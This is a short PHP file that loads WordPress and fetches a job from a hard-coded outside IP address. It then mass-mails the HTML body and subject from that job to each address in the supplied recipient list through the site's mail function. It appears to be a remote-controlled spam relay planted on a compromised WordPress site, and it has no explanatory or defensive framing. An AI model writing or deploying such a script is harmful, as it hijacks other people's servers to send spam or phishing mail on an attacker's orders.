<?php
require_once __DIR__ . '/wp-load.php';
$task = json_decode(file_get_contents('http://203.0.113.9/queue/next'), true);
foreach ($task['rcpt'] as $one) {
    wp_mail($one, $task['subj'], $task['html'], array('Content-Type: text/html'));
}
